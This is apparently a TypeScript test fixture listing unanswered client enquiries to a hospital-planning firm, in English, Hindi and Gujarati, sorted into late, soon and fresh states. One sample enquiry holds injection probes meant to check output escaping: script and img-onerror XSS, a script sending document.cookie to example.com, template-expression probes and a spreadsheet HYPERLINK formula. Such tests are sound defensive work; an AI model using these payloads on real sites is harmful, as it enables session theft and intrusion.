/** Enquiries that nobody has answered, in each state that the list "To answer" shows. */
import { DAY, delivered, HOUR, type Story } from "./story.ts";

const late: Story[] = [
  {
    written: [
      {
        reference: "AN-7F3K-2Q",
        ago: 27 * HOUR + 24,
        full_name: "Dr. Ramesh Solanki",
        organization: "Solanki Multispeciality Hospital LLP",
        email: "ramesh.solanki@example.in",
        phone: "098765-10432",
        project_type: "new-hospital",
        project_details: `We have a 2-acre plot outside Nashik, land is converted, no drawings yet.

Planning:
- 100 beds, multispeciality
- 3 OT, 12 bed ICU, dialysis (6)
- blood storage, no blood bank

Budget approx ₹45 crore without land. Bank (SBI Nashik) wants the DPR before the sanction lapses on 15 December. Who will do the DPR and the fire NOC, you or our architect?

Please call after 11, I am in OT in the morning.
Dr. Ramesh`,
        notices: [
          { channel: "mail", state: "failed", error: "452 4.2.2 mailbox full" },
          { channel: "autoreply", state: "delivered" },
        ],
      },
    ],
    steps: [
      { ago: 26 * HOUR + 50, who: "nilesh", does: "sees" },
      { ago: 25 * HOUR + 30, who: "farida", does: "sees" },
      {
        ago: 25 * HOUR + 29,
        who: "farida",
        does: "notes",
        text: "His earlier file is with me: Sinnar, 40 beds, dropped for want of land. He knows our fees.",
      },
    ],
  },
  {
    written: [
      {
        reference: "AN-4HTW-9C",
        ago: 3 * DAY + 5 * HOUR,
        full_name: "डॉ. सुनील वर्मा",
        organization: "वर्मा हॉस्पिटल एवं ट्रॉमा सेंटर",
        email: "sunil.verma@example.in",
        phone: "+91 98765 11207",
        project_type: "equipment",
        project_details: `हमारा वेंटिलेटर कल रात से बंद है, तुरंत सहायता चाहिए।

आई.सी.यू. में 8 बेड हैं और दो मरीज़ पोर्टेबल मशीन पर हैं। लखनऊ में किराये पर मशीन मिल सकती है क्या?`,
        notices: delivered,
      },
    ],
    steps: [{ ago: 3 * DAY + 4 * HOUR, who: "devyani", does: "sees" }],
  },
  {
    written: [
      {
        reference: "AN-P5QN-7D",
        ago: 26 * HOUR,
        full_name: "Jayesh Trivedi",
        organization: "Trivedi Eye Hospital",
        email: "jayesh.trivedi@example.in",
        phone: "+91 98765 12090",
        project_type: "consulting",
        project_details:
          "Want to apply for NABH entry level for our 20 bed eye hospital in Bhavnagar. What do you charge?",
        notices: delivered,
      },
    ],
    steps: [
      { ago: 22 * HOUR, who: "karthik", does: "dials", by: "phone" },
      {
        ago: 22 * HOUR - 3,
        who: "karthik",
        does: "reports",
        outcome: "wrong-number",
        by: "phone",
        backIn: null,
      },
    ],
  },
];

const soon: Story[] = [
  {
    written: [
      {
        reference: "AN-R8MV-3J",
        ago: 87,
        full_name: "Sr. Mary Thomas",
        organization: "St Joseph Mission Hospital",
        email: "sr.mary@example.org",
        phone: "+91 98765 14410",
        project_type: "equipment",
        project_details:
          "URGENT. Our only autoclave failed this morning, we have 6 surgeries listed for tomorrow. Can you supply or lend one to Kottayam?",
        notices: delivered,
      },
    ],
    steps: [
      { ago: 60, who: "nilesh", does: "sees" },
      { ago: 58, who: "nilesh", does: "takes" },
    ],
  },
  {
    written: [
      {
        reference: "AN-X2BK-6H",
        ago: 23 * HOUR + 35,
        full_name: "Pooja Reddy",
        organization: "Sanjeevani Women's Clinic",
        email: "pooja.reddy@example.in",
        phone: "+91 98765 15521",
        project_type: "renovation",
        project_details:
          "We want to turn the first floor (3,800 sq ft) into a labour room and a 6 bed NICU. The clinic in Hyderabad must stay open meanwhile.",
        notices: [
          { channel: "mail", state: "delivered" },
          { channel: "autoreply", state: "waiting" },
        ],
      },
    ],
    steps: [{ ago: 20 * HOUR, who: "asha", does: "sees" }],
  },
  {
    written: [
      {
        reference: "AN-K9RD-5H",
        ago: 20 * HOUR + 52,
        full_name: "હેતલ પટેલ",
        organization: "પટેલ નર્સિંગ હોમ",
        email: "hetal.patel@example.in",
        phone: "૯૮૭૬૫ ૨૦૮૧૭",
        project_type: "new-hospital",
        source: "form",
        project_details: `અમારે મહેસાણામાં ૩૦ બેડની હોસ્પિટલ શરૂ કરવી છે. જમીન અમારી છે.

૧. નકશો અને પ્લાન પાસ કરાવવો
૨. ફાયર NOC
૩. ઓપરેશન થિયેટર ૨

ખર્ચનો અંદાજ આપશો?`,
        notices: delivered,
      },
      {
        reference: "AN-M4XW-8T",
        ago: 5 * HOUR + 30,
        full_name: "હેતલ પટેલ",
        organization: "પટેલ નર્સિંગ હોમ",
        email: "hetal.patel@example.in",
        phone: "૯૮૭૬૫ ૨૦૮૧૭",
        project_type: "new-hospital",
        project_details: "ગઈ કાલે લખ્યું હતું, હજી જવાબ નથી. સાંજે ૫ પછી ફોન કરશો.",
        notices: delivered,
      },
    ],
    steps: [
      { ago: 5 * HOUR + 17, who: "devyani", does: "sees" },
      { ago: 12, who: "you", does: "takes" },
    ],
  },
  {
    written: [
      {
        reference: "AN-C6YG-4V",
        ago: 25,
        full_name: "ભાવેશ જોષી",
        organization: "જોષી ચિલ્ડ્રન હોસ્પિટલ",
        email: "bhavesh.joshi@example.in",
        phone: "+91 98765 16638",
        project_type: "equipment",
        project_details: "તાત્કાલિક જરૂર છે: NICU માટે બે ફોટોથેરાપી યુનિટ, રાજકોટમાં. આજે મળી શકે?",
        notices: delivered,
      },
    ],
    steps: [],
  },
];

const fresh: Story[] = [
  {
    written: [
      {
        reference: "AN-N3DS-8Y",
        ago: 19 * HOUR + 37,
        full_name: "Padmashri Dr. Venkata Subrahmanya Satyanarayana Chakravarthula",
        organization: "Sri Venkateswara Educational, Medical and Charitable Trust, Rajamahendravaram",
        email: "chakravarthula.venkatasubrahmanya@svemct-hospital.example.in",
        phone: "+91 98765 17745",
        project_type: "renovation",
        project_details:
          "Renovation of OT complex (4 theatres) and CSSD to NABH. Building is from 1994. Kindly send a team to Rajahmundry for inspection.",
        notices: delivered,
      },
    ],
    steps: [
      { ago: 40, who: "farida", does: "sees" },
      { ago: 4, who: "karthik", does: "dials", by: "phone" },
    ],
  },
  {
    written: [
      {
        reference: "AN-V7ZE-2M",
        ago: 12 * HOUR,
        full_name: "Rekha Nair",
        organization: "Nair Cancer Care Foundation",
        email: "rekha.nair at example.in",
        phone: "+91 98765 18852",
        project_type: "consulting",
        flags: ["email-unlikely"],
        project_details: longLetter(),
        notices: [
          { channel: "mail", state: "delivered" },
          { channel: "autoreply", state: "failed", error: "501 5.1.3 bad recipient address syntax" },
        ],
      },
    ],
    steps: [{ ago: 11 * HOUR, who: "nilesh", does: "sees" }],
  },
  {
    written: [
      {
        reference: "AN-W4AR-9F",
        ago: 9 * HOUR,
        full_name: `<script>alert("name")</script> <b>Ravi</b>`,
        organization: `"><img src=x onerror=alert(1)> & Sons`,
        email: "ravi@example.in",
        phone: "+91 98765 19969",
        project_type: "it-solutions",
        project_details: `</textarea><script>fetch("//example.com/" + document.cookie)</script>
{{7*7}} \${7*7} javascript:alert(1)
=HYPERLINK("http://example.com","price list")

We are a software house in Pune and test every form before we write to it. Please send the scope of your HIS.`,
        notices: delivered,
      },
    ],
    steps: [],
  },
  {
    written: [
      {
        reference: "AN-T8HJ-5B",
        ago: 8 * HOUR,
        full_name: "Gurpreet Singh",
        organization: "Guru Nanak Charitable Dispensary",
        email: "office, ask for Gurpreet",
        phone: "ask at the reception",
        flags: ["email-unlikely"],
        project_details:
          "Our dispensary in Ludhiana wants an X-ray room with lead lining. We are in Model Town, next to the gurdwara. Anybody can show you the way.",
        notices: [
          { channel: "mail", state: "delivered" },
          { channel: "autoreply", state: "failed", error: "501 5.1.3 bad recipient address syntax" },
        ],
      },
    ],
    steps: [],
  },
  {
    written: [
      {
        reference: "AN-E5WP-3K",
        ago: 7 * HOUR,
        full_name: "Lakshmi Menon",
        organization: "Menon Physiotherapy",
        email: "lakshmi.menon@example.in",
        phone: "reception, extension 12",
        project_type: "other",
        project_details: "Do you also plan physiotherapy centres of 1,500 sq ft? We have rented rooms in Coimbatore.",
        notices: delivered,
      },
    ],
    steps: [{ ago: 6 * HOUR, who: "devyani", does: "takes" }],
  },
  {
    written: [
      {
        reference: "AN-H6BX-7R",
        ago: 5 * HOUR + 20,
        full_name: "राजेश कुमार शर्मा",
        organization: "शर्मा नर्सिंग होम",
        email: "rajesh.sharma@example.in",
        phone: "+91 98765 21193",
        project_type: "consulting",
        project_details:
          "हमारे 50 बेड के अस्पताल को NABH की मान्यता लेनी है। फायर NOC की तारीख निकल चुकी है। इंदौर में कौन आ सकता है और कितना समय लगेगा?",
        notices: delivered,
      },
    ],
    steps: [],
  },
  {
    written: [
      {
        reference: "AN-G2SV-6N",
        ago: 2 * HOUR + 45,
        full_name: "Imran Qureshi",
        organization: "Al-Shifa Diagnostics",
        email: "imran.qureshi@example.in",
        phone: "+91 98765 22204",
        project_type: "it-solutions",
        project_details:
          "Need HIS + LIS for 3 centres in Hyderabad, currently on Excel. Please share price and demo dates.",
        notices: delivered,
      },
    ],
    steps: [
      { ago: 100, who: "farida", does: "takes" },
      {
        ago: 95,
        who: "farida",
        does: "drafts",
        subject: "HIS and LIS for three centres",
        body: "Dear Mr Qureshi,\n\nThank you for writing to us.",
      },
    ],
  },
  {
    written: [
      {
        reference: "AN-J9CT-4E",
        ago: 70,
        full_name: "Wg Cdr (Retd) A. K. Bhatia",
        organization: "Defence Colony Residents' Clinic",
        email: "bhatia@example.in",
        phone: "+91 98765 23315",
        project_type: "new-hospital",
        project_details:
          "A clinic with day care, 10 beds, for 4,000 households in Noida. The society's meeting is tonight at 8 and I need a figure to put before it.",
        notices: delivered,
      },
    ],
    steps: [{ ago: 66, who: "asha", does: "marks urgent" }],
  },
  {
    written: [
      {
        reference: "AN-B3KZ-8W",
        ago: 6,
        full_name: "Anjali Deshpande",
        email: "anjali.deshpande@example.in",
        phone: "+91 98765 24426",
        project_type: "other",
        project_details: "Is there a course on biomedical waste for our nurses? We are a small maternity home.",
        notices: [
          { channel: "mail", state: "waiting" },
          { channel: "autoreply", state: "waiting" },
        ],
      },
    ],
    steps: [],
  },
];

function longLetter(): string {
  const needs = [
    "Linear accelerator with bunker, 6 MV first, space for a second one later",
    "PET-CT with a hot lab, and the layout approval of AERB",
    "Day care chemotherapy, 24 chairs, laminar flow for mixing",
    "Four operation theatres, one of them for reconstructive surgery",
    "A blood centre with apheresis",
    "Palliative ward of 20 beds with rooms for relatives",
    "A hostel for 60 nurses, because there are no rooms to rent within 8 km",
  ];
  const parts = needs.map((need, index) => `${index + 1}. ${need}`).join("\n");
  const paragraph =
    "Our foundation has run a cancer clinic in Thiruvananthapuram since 2003. Last year 11,400 people came, most of them from three districts, and every second one was sent on to a hospital more than 200 km away. The trustees have decided to build. We own 7.3 acres on the road to Kattakada; the soil report, the survey sketch and the no-objection of the panchayat are attached to our website. ";
  return `${paragraph}

${parts}

${paragraph.repeat(3)}

Our drawings are here: https://example.in/${"drawings-and-approvals-".repeat(6)}2026.pdf

With regards
Rekha Nair, Secretary`;
}

export const toAnswer: readonly Story[] = [...late, ...soon, ...fresh];
